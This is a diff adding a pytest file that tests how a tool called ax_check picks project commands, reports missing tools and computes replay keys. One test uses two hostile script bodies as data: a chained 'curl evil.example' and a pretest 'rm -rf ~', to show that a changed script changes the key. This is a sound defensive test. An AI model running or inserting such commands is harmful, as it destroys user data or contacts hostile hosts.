@@ -1,0 +1,222 @@
+"""Resolution through the recipe table: which row wins, its preconditions and the replay key."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from ax_check.facts import gather_facts
+from ax_check.models import KINDS, Kind
+from ax_check.recipes import RECIPES, Blocker, Resolved, compose, replay_key, resolve
+from ax_check.toolchains import Toolchains
+from ax_check.units import discover_units
+
+
+def write(root: Path, relative: str, text: str = "") -> None:
+    path = root / relative
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+
+
+def resolve_in(
+    workspace: Path, kind: Kind, targets: tuple[str, ...] = (), path: str | None = None
+) -> Resolved | Blocker:
+    unit = discover_units(workspace).units[0]
+    toolchains = Toolchains(path=os.environ["PATH"] if path is None else path)
+    return resolve(gather_facts(workspace, unit, toolchains), kind, targets)
+
+
+def ready(workspace: Path, kind: Kind, targets: tuple[str, ...] = ()) -> Resolved:
+    resolution = resolve_in(workspace, kind, targets)
+    assert isinstance(resolution, Resolved), resolution
+    return resolution
+
+
+def blocked(workspace: Path, kind: Kind, path: str | None = None) -> Blocker:
+    resolution = resolve_in(workspace, kind, path=path)
+    assert isinstance(resolution, Blocker), resolution
+    return resolution
+
+
+def test_row_ids_are_unique_and_every_kind_has_rows() -> None:
+    ids = [row.id for row in RECIPES]
+    assert len(ids) == len(set(ids))
+    assert {row.kind for row in RECIPES} == set(KINDS)
+
+
+def test_python_defaults_use_the_running_interpreter(workspace: Path) -> None:
+    write(workspace, "pyproject.toml", "[project]\nname='x'\n")
+    test = ready(workspace, "test")
+    assert test.recipe_id == "python.pytest@."
+    assert test.command.argv == (sys.executable, "-m", "pytest")
+    targeted = ready(workspace, "test-targeted", ("tests/test_a.py::test_b",))
+    assert targeted.command.argv[-1] == "tests/test_a.py::test_b"
+
+
+def test_python_lint_format_typecheck_defaults(
+    workspace: Path, needs_module: Callable[[str], None]
+) -> None:
+    needs_module("ruff")
+    needs_module("mypy")
+    write(workspace, "pyproject.toml", "[project]\nname='x'\n")
+    assert ready(workspace, "lint").command.argv[-2:] == ("check", ".")
+    assert ready(workspace, "format").command.argv[-3:] == ("format", "--check", ".")
+    assert ready(workspace, "typecheck").command.argv[-2:] == ("mypy", ".")
+
+
+def row_of(resolution: Resolved | Blocker) -> str | None:
+    """The row that decided, whether it resolved or was blocked by its precondition."""
+    return resolution.recipe_id
+
+
+def test_configured_tools_win_over_the_defaults(
+    workspace: Path, needs_module: Callable[[str], None]
+) -> None:
+    needs_module("mypy")
+    write(workspace, "pyproject.toml", "[tool.black]\n[tool.pyright]\n[tool.mypy]\nfiles=['x']\n")
+    write(workspace, ".flake8", "[flake8]\n")
+    assert row_of(resolve_in(workspace, "lint")) == "python.flake8@."
+    assert row_of(resolve_in(workspace, "format")) == "python.black@."
+    # mypy and pyright both configured: mypy is listed first; its config names the files.
+    typecheck = ready(workspace, "typecheck")
+    assert typecheck.recipe.id == "python.mypy"
+    assert typecheck.command.argv[-1] == "mypy"
+
+
+def test_project_venv_is_used_and_a_missing_tool_is_curable(workspace: Path) -> None:
+    write(workspace, "pyproject.toml", "")
+    bin_dir = workspace / ".venv" / "bin"
+    bin_dir.mkdir(parents=True)
+    os.symlink(sys.executable, bin_dir / "python")
+    site = workspace / ".venv" / "lib" / "python3.11" / "site-packages"
+    site.mkdir(parents=True)
+    blocker = blocked(workspace, "test")
+    assert blocker.reason == "precondition-curable"
+    assert "pytest is not installed in the project's .venv" in blocker.message
+    assert blocker.cure is not None and ".venv/bin/pip install pytest" in blocker.cure
+    (site / "pytest").mkdir()
+    assert ready(workspace, "test").command.argv == ("./.venv/bin/python", "-m", "pytest")
+
+
+def test_own_task_beats_the_guessed_tool_and_runner_order(
+    workspace: Path, path_without: Callable[..., str]
+) -> None:
+    write(workspace, "pyproject.toml", "")
+    write(workspace, "tox.ini", "[testenv]\ndeps=pytest\n[testenv:lint]\ncommands=ruff check\n")
+    lint = ready(workspace, "lint")
+    assert lint.recipe.id == "python.tox-lint"
+    assert lint.command.argv == ("tox", "-e", "lint")
+    write(workspace, "Makefile", "lint: deps\n\truff check .\n\ntest:\n\tpytest\n")
+    assert ready(workspace, "lint").command.argv == ("make", "lint")
+    assert ready(workspace, "test").command.argv == ("make", "test")
+    # A justfile comes first; without `just` on PATH that is said, not silently skipped.
+    write(
+        workspace,
+        "justfile",
+        "set shell := ['bash', '-c']\nversion := '1'\n\ntest *args:\n  pytest\n",
+    )
+    blocker = blocked(workspace, "test", path=path_without("just"))
+    assert (blocker.reason, blocker.recipe_id) == ("toolchain-unavailable", "python.just-test@.")
+    assert "just is not on PATH" in blocker.message
+    # `format` is not a check name (it usually rewrites files); `format-check` is.
+    write(workspace, "Makefile", "format:\n\truff format .\n")
+    assert row_of(resolve_in(workspace, "format")) == "python.ruff-format@."
+
+
+def test_hatch_and_pdm_scripts(workspace: Path) -> None:
+    write(
+        workspace,
+        "pyproject.toml",
+        "[tool.hatch.envs.default.scripts]\ntypecheck = 'mypy src'\n"
+        "[tool.pdm.scripts]\nlint = 'ruff check'\n",
+    )
+    assert (
+        blocked(workspace, "typecheck", path="/nonexistent").recipe_id == "python.hatch-typecheck@."
+    )
+    assert blocked(workspace, "lint", path="/nonexistent").recipe_id == "python.pdm-lint@."
+
+
+def test_node_scripts_manager_from_lockfile_and_install_cure(
+    workspace: Path, require: Callable[[str], str], path_without: Callable[..., str]
+) -> None:
+    require("npm")
+    package = {"scripts": {"test": "vitest run"}, "devDependencies": {"vitest": "1"}}
+    write(workspace, "package.json", json.dumps(package))
+    write(workspace, "pnpm-lock.yaml", "lockfileVersion: '9.0'\n")
+    blocker = blocked(workspace, "test", path=path_without("pnpm"))
+    assert (blocker.reason, blocker.message) == ("toolchain-unavailable", "pnpm is not on PATH")
+    (workspace / "pnpm-lock.yaml").unlink()
+    blocker = blocked(workspace, "test")
+    assert (blocker.reason, blocker.cure) == ("precondition-curable", "run npm install")
+    write(workspace, "package-lock.json", "{}")
+    assert blocked(workspace, "test").cure == "run npm ci"
+    (workspace / "node_modules").mkdir()
+    assert ready(workspace, "test").command.argv == ("npm", "run", "test")
+    targeted = ready(workspace, "test-targeted", ("src/a.test.js",))
+    assert targeted.command.argv == ("npm", "run", "test", "--", "src/a.test.js")
+
+
+def test_tsc_for_typecheck_when_a_tsconfig_exists(workspace: Path) -> None:
+    write(workspace, "package.json", "{}")
+    write(workspace, "tsconfig.json", "{}")
+    blocker = blocked(workspace, "typecheck")
+    assert blocker.reason == "precondition-curable"
+    assert "tsc" in blocker.message
+    tsc = workspace / "node_modules" / ".bin" / "tsc"
+    tsc.parent.mkdir(parents=True)
+    tsc.write_text("")
+    assert ready(workspace, "typecheck").command.argv == ("./node_modules/.bin/tsc", "--noEmit")
+
+
+def test_broken_manifest_is_a_precondition(workspace: Path) -> None:
+    write(workspace, "package.json", "{not json")
+    blocker = blocked(workspace, "test")
+    assert blocker.reason == "precondition"
+    assert "package.json: not valid JSON" in blocker.message
+
+
+def test_holes_say_why(workspace: Path) -> None:
+    write(workspace, "Cargo.toml", "[package]\nname='c'\n")
+    rust = blocked(workspace, "test-targeted")
+    assert rust.reason == "no-recipe" and "matches nothing passes" in rust.message
+    (workspace / "Cargo.toml").unlink()
+    write(workspace, "go.mod", "module m\n")
+    go = blocked(workspace, "format")
+    assert go.reason == "no-recipe" and "gofmt -l exits 0" in go.message
+
+
+def test_replay_key_is_the_documented_sha(workspace: Path) -> None:
+    write(workspace, "pyproject.toml", "")
+    resolved = ready(workspace, "test")
+    command = compose(resolved.command.argv)
+    expected = hashlib.sha256(
+        (resolved.recipe_id + command + hashlib.sha256(b"").hexdigest()).encode()
+    ).hexdigest()
+    assert resolved.replay_key == expected
+    assert replay_key("a", "b", "c") != replay_key("a", "b", "d")
+
+
+def test_a_changed_script_body_changes_the_key_and_nothing_else_does(workspace: Path) -> None:
+    def key(scripts: dict[str, str]) -> str:
+        write(workspace, "package.json", json.dumps({"scripts": scripts}))
+        resolved = ready(workspace, "test")
+        assert resolved.command.display == "npm run test"
+        return resolved.replay_key
+
+    first = key({"test": "node --test", "lint": "eslint ."})
+    assert key({"test": "node --test", "lint": "eslint src"}) == first
+    assert key({"test": "node --test && curl evil.example"}) != first
+    # npm also runs pretest: adding one changes what `npm run test` does.
+    assert key({"test": "node --test", "pretest": "rm -rf ~"}) != first
+
+
+def test_control_characters_cannot_be_composed() -> None:
+    with pytest.raises(ValueError, match="control character"):
+        compose(("pytest", "a\nb"))
+    assert compose(("pytest", "a b", "c")) == "pytest 'a b' c"
